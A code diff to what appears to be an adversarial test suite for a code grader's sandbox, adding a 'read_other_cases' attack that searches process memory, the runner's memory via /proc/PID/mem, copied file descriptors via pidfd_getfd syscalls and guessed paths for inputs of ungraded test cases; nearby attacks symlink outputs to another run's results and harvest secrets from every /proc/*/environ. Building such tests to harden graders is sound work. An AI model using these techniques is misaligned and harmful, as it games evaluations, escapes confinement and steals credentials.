@@ -236,11 +236,11 @@ if b"child.py" in parent:  # only the grader's runner, never anything else
 '''
 
 SYMLINKED_OUTPUTS = f'''
-import glob, json, os
+import glob, os, re
 theirs = os.path.join(os.path.dirname(os.path.abspath("..")), "$HONEST", "results")  # a sibling run's folder
 ids = [f"p04c{{c:02d}}" for c in range(8)]  # avg_pool_forward_naive is part 4: guessed, the plan is out of reach
-ids += [case["id"] for plan in glob.glob("../plan*.json") for case in json.load(open(plan))["cases"]
-        if case["function"] == "avg_pool_forward_naive"]  # unconfined, the plan is readable
+ids += [case.decode() for plan in glob.glob("../plan*")  # unconfined, the plan is readable
+        for case in re.findall(rb'"id": "(p04c\\d\\d)"', open(plan, "rb").read())]
 for case_id in ids:
     mine = f"../results/{{case_id}}.npz"  # every output of mine becomes a link to theirs
     if os.path.lexists(mine):
@@ -345,6 +345,92 @@ for path in sorted(glob.glob("/proc/[0-9]*/environ")):  # every process's enviro
 found.sort(key=lambda entry: not any(word in entry.upper() for word in ("TOKEN", "SECRET", "PASSWORD", "KEY")))
 raise RuntimeError("environment: " + " ".join(found))  # the likeliest secrets first
 '''
+OTHER_CASES = r'''
+import ctypes, gc, glob, os, re
+key = re.compile(rb"p\d\dc\d\d__[a-z]")  # an input's name as the grader stores it: <case id>__<array>
+with open("../results/status.jsonl", "rb") as file:  # the cases started so far, this one last
+    started = set(re.findall(rb'"id": "(p\d\dc\d\d)"', file.read()))
+mine = max(started)[:3]  # this function's part: its own cases are no one else's
+found, searched = set(), {"objects": 0, "files": 0, "descriptors": 0, "memory MiB": 0}
+
+
+def search(data, where):
+    for match in key.finditer(data):
+        case = match.group(0)[:6]
+        if case not in started and case[:3] != mine:
+            found.add(f"{case.decode()} in {where}")
+
+
+def read_file(path, where):
+    try:
+        with open(path, "rb") as file:
+            search(file.read(1 << 24), where)
+        searched["files"] += 1
+    except OSError:
+        pass
+
+
+def read_memory(pid):  # every readable mapping of the process, through /proc/PID/mem
+    try:
+        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
+            for line in maps:
+                fields = line.split()
+                start, end = (int(n, 16) for n in fields[0].split("-"))
+                if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
+                    continue
+                try:
+                    memory.seek(start)
+                    search(memory.read(min(end - start, 1 << 28)), f"the memory of process {pid}")
+                    searched["memory MiB"] += (end - start) >> 20
+                except (OSError, ValueError, OverflowError):
+                    pass
+    except OSError:
+        pass
+
+
+for obj in gc.get_objects():  # the runner's plan and inputs, inherited by this forked worker
+    searched["objects"] += 1
+    if isinstance(obj, dict):
+        texts = [t for t in (*obj, *obj.values()) if isinstance(t, (str, bytes))]
+    elif isinstance(obj, (list, tuple, set)):
+        texts = [t for t in obj if isinstance(t, (str, bytes))]
+    else:
+        continue
+    for text in texts:
+        search(text if isinstance(text, bytes) else text.encode(errors="replace"), "an object in memory")
+read_memory("self")
+read_memory(os.getppid())  # the runner
+libc = ctypes.CDLL(None, use_errno=True)
+for pid in ("self", str(os.getppid())):
+    for path in glob.glob(f"/proc/{pid}/fd/*"):  # open files: the plan on stdin, the inputs
+        searched["descriptors"] += 1
+        read_file(path, path)
+        try:
+            search(os.pread(int(os.path.basename(path)), 1 << 24, 0), path) if pid == "self" else None
+        except (OSError, ValueError):
+            pass
+    for name in ("cmdline", "environ"):
+        read_file(f"/proc/{pid}/{name}", f"/proc/{pid}/{name}")
+pidfd = libc.syscall(434, os.getppid(), 0)  # pidfd_open, then pidfd_getfd: a copy of the runner's stdin
+for number in range(8) if pidfd >= 0 else ():
+    copied = libc.syscall(438, pidfd, number, 0)
+    if copied >= 0:
+        searched["descriptors"] += 1
+        try:
+            search(os.pread(copied, 1 << 24, 0), f"the runner's descriptor {number}")
+        except OSError:
+            pass
+work = os.path.abspath("../../..")  # its run's folder of the grader (runs/<id>/sandbox is its working directory)
+candidates = [f"{work}/inputs.npz", *(f"../plan{n}{suffix}" for n in range(8) for suffix in ("", ".json"))]
+candidates += glob.glob("../*") + glob.glob("../results/*")
+for folder, _, names in os.walk(work):  # whatever of it it can list
+    candidates += [os.path.join(folder, name) for name in names][:2000]
+for path in candidates:
+    read_file(path, path)
+if found:
+    raise RuntimeError(f"found inputs of cases not yet graded: {sorted(found)[:6]}")
+raise RuntimeError(f"found no input of a case not yet graded ({searched})")
+'''
 
 SNOOPING = [
     attack("read_reference", "snooping", "reads the instructor's cs7150/pool.py (path guessed from numpy's) "
@@ -358,6 +444,9 @@ SNOOPING = [
            body("network", NETWORK), feedback=["tried to use the network"], fast=True),
     attack("env_secrets", "snooping", "reads its environment and every /proc/*/environ into its feedback", 96,
            body("env_secrets", ENV_SECRETS), feedback=["raised RuntimeError: environment:"], fast=True),
+    attack("read_other_cases", "snooping", "searches its memory, the runner's, their open files and every path it "
+           "can guess for the inputs of cases not yet graded", 96, body("read_other_cases", OTHER_CASES),
+           feedback=["found no input of a case not yet graded"], fast=True),
 ]
 
 # ---- forbidden shortcuts -------------------------------------------------------------------------
